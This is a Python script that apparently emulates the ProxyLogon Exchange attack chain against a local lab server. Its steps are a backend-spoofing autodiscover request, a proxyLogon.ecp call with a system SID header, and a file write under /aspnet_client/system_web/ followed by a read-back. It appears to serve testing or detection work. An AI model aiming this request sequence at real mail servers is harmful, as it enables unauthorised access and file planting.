# ruff: noqa
import argparse
import json

import httpx

UA_STRING = "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36"
NOTE = "/aspnet_client/system_web/readme_91453.txt"


def browserish():
    h = {"User-Agent": UA_STRING}
    h.update({"x-requested-with": "XMLHttpRequest"})
    h.update(Accept="*/*")
    h["accept-language"] = "en-US,en;q=0.9"
    h["connection"] = "close"
    return h


def run(port: int) -> dict:
    out = {}
    with httpx.Client(base_url=f"http://127.0.0.1:{port}", timeout=10.0) as c:
        hdr = browserish()
        hdr["cookie"] = "; ".join(
            [
                "X-AnonResource=true",
                "X-AnonResource-Backend=lab.invalid",
                "X-BEResource=localhost@lab.invalid/ews/exchange.asmx?a%3D~1843073522",
            ]
        )
        qs = {
            "Pad": "A" * 37,
            "Protocol": "Autodiscoverv1",
            "Email": "administrator@lab.invalid/mapi/nspi",
            "RequestId": "20200302-7720",
        }
        first = c.get("/autodiscover/autodiscover.json", params=qs, headers=hdr)
        out["reachable"] = first.status_code < 500
        if not out["reachable"]:
            return out
        second = c.post(
            "/ecp/proxyLogon.ecp",
            headers={
                "user-agent": UA_STRING,
                "msexchlogonmailbox": "S-1-5-20",
                "content-type": "application/json",
                "X-BEResource": "localhost@lab.invalid/ecp/proxyLogon.ecp",
            },
            content=json.dumps(
                {"mailbox": "administrator@lab.invalid", "requestKind": "identity", "seq": 1}
            ),
        )
        ident = second.text.strip() or "anonymous"
        body = "\n".join("note {} of {} for {}".format(n + 1, 3, ident) for n in range(3))
        third = c.post(
            NOTE,
            headers={"user-agent": UA_STRING, "X-Note-Path": NOTE, "Content-Type": "text/plain"},
            content=body.encode(),
        )
        out["written"] = third.status_code in {200, 201, 204}
        fourth = c.get(NOTE, headers=browserish())
        out["read_back"] = len(fourth.content[:1024])
    return out


if __name__ == "__main__":
    ap = argparse.ArgumentParser()
    ap.add_argument("port", type=int)
    print(json.dumps(run(ap.parse_args().port), indent=4, sort_keys=True))
